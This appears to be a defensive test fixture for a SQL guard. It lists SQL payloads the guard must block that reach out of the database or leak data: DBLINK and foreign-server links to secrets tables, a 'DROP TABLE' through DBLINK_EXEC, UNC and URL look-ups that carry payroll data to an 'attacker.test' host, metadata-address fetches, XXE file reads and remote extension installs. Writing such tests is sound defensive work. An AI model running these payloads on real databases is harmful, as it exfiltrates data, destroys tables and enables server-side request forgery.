-- Reaching out of the database: connections of the server's own, DNS look-ups, files by URL (sqlmap --dns-domain, PayloadsAllTheThings
-- "MySQL out of band", Vanna SSRF CVE-2026-4231, Arc CVE-2026-47735 through httpfs).

-- [all] guard/function: DBLINK
SELECT DBLINK('host=127.0.0.1 port=__PORT__', 'SELECT 1')

-- [all] guard/function: DBLINK as a table
SELECT * FROM DBLINK('host=127.0.0.1 port=__PORT__', 'SELECT secret FROM vault.secrets') AS t(secret TEXT)

-- [all] guard/function: DBLINK_CONNECT
SELECT DBLINK_CONNECT('host=127.0.0.1 port=__PORT__ password=' || (SELECT MAX(memo) FROM payroll))

-- [all] guard/function: DBLINK_EXEC
SELECT DBLINK_EXEC('dbname=postgres', 'DROP TABLE customers')

-- [all] guard/function: DBLINK_SEND_QUERY
SELECT DBLINK_SEND_QUERY('c', 'SELECT 1')

-- [all] guard/statement: a foreign server
CREATE SERVER stolen FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '127.0.0.1', port '__PORT__')

-- [all] guard/statement: a user mapping
CREATE USER MAPPING FOR CURRENT_USER SERVER stolen OPTIONS (user 'x')

-- [all] guard/statement: a subscription to another server
CREATE SUBSCRIPTION stolen CONNECTION 'host=127.0.0.1 port=__PORT__' PUBLICATION p

-- [all] guard/statement: an extension for it
CREATE EXTENSION dblink

-- [all] guard/statement: a federated table
CREATE TABLE stolen (x INT) ENGINE=FEDERATED CONNECTION='mysql://x@127.0.0.1:__PORT__/d/t'

-- [all] guard/parse: a replica of an attacker
CHANGE MASTER TO MASTER_HOST = '127.0.0.1', MASTER_PORT = __PORT__

-- [all] guard/function: LOAD_FILE of a UNC path
SELECT LOAD_FILE('\\\\127.0.0.1\\share\\x') AS s

-- [all] guard/function: LOAD_FILE of a UNC path with data in the name
SELECT LOAD_FILE(CONCAT('\\\\', (SELECT MAX(memo) FROM payroll), '.attacker.test\\x')) AS s

-- [all] guard/table: a CSV file by URL
SELECT * FROM 'http://127.0.0.1:__PORT__/x.csv'

-- [all] guard/function: READ_CSV by URL
SELECT * FROM READ_CSV('http://127.0.0.1:__PORT__/x.csv')

-- [all] guard/function: READ_TEXT of the metadata address
SELECT * FROM READ_TEXT('http://127.0.0.1:__PORT__/latest/meta-data/')

-- [all] guard/function: READ_PARQUET by S3
SELECT * FROM READ_PARQUET('s3://stolen/x.parquet')

-- [all] guard/function: READ_JSON with data in the address
SELECT * FROM READ_JSON('http://127.0.0.1:__PORT__/' || (SELECT MAX(memo) FROM payroll))

-- [all] guard/statement: an extension is installed
INSTALL httpfs

-- [all] guard/statement: an extension of the community is installed
INSTALL shellfs FROM community

-- [all] guard/parse: an extension is installed from an address
INSTALL 'stolen' FROM 'http://127.0.0.1:__PORT__'

-- [all] guard/parse: an extension is loaded
LOAD httpfs

-- [all] guard/parse: an extension is loaded from a file
LOAD '__FOLDER__/stolen.duckdb_extension'

-- [all] guard/statement: a database is attached by address
ATTACH 'host=127.0.0.1 port=__PORT__' AS stolen (TYPE postgres)

-- [all] guard/statement: a database is attached over HTTP
ATTACH 'http://127.0.0.1:__PORT__/x.duckdb' AS stolen

-- [all] guard/statement: a database is attached by a URI of SQLite
ATTACH 'file:__VAULTFILE__?mode=rw' AS stolen

-- [all] guard/function: POSTGRES_QUERY
SELECT * FROM POSTGRES_QUERY('host=127.0.0.1 port=__PORT__', 'SELECT 1')

-- [all] guard/function: MYSQL_QUERY
SELECT * FROM MYSQL_QUERY('host=127.0.0.1 port=__PORT__', 'SELECT 1')

-- [all] guard/function: POSTGRES_SCAN
SELECT * FROM POSTGRES_SCAN('host=127.0.0.1 port=__PORT__', 'public', 't')

-- [all] guard/function: HTTP_GET of a community extension
SELECT HTTP_GET('http://127.0.0.1:__PORT__/') AS s

-- [all] guard/function: HTTP of an extension of PostgreSQL
SELECT content FROM HTTP_GET('http://127.0.0.1:__PORT__/')

-- [all] guard/node: UTL_HTTP of Oracle
SELECT UTL_HTTP.REQUEST('http://127.0.0.1:__PORT__/') FROM dual

-- [all] guard/function: an XML entity by address
SELECT EXTRACTVALUE(XMLTYPE('<!DOCTYPE r [<!ENTITY % x SYSTEM "http://127.0.0.1:__PORT__/">%x;]>'), '/l') FROM dual

-- [all] guard/parse: an XML entity of a file
SELECT XMLPARSE(DOCUMENT '<!DOCTYPE r [<!ENTITY x SYSTEM "file://__FILE__">]><r>&x;</r>') AS s

-- [all] guard/function: the address of the server
SELECT INET_SERVER_ADDR() AS s

-- [all] guard/function: the address of the client
SELECT INET_CLIENT_ADDR() AS s

-- [all] guard/parse: NOTIFY
NOTIFY stolen, 'x'

-- [all] guard/function: PG_NOTIFY
SELECT PG_NOTIFY('stolen', (SELECT MAX(memo) FROM payroll))

-- [all] guard/statement: LISTEN
LISTEN stolen

-- [all] guard/statement: the user interface of DuckDB is started
CALL START_UI()
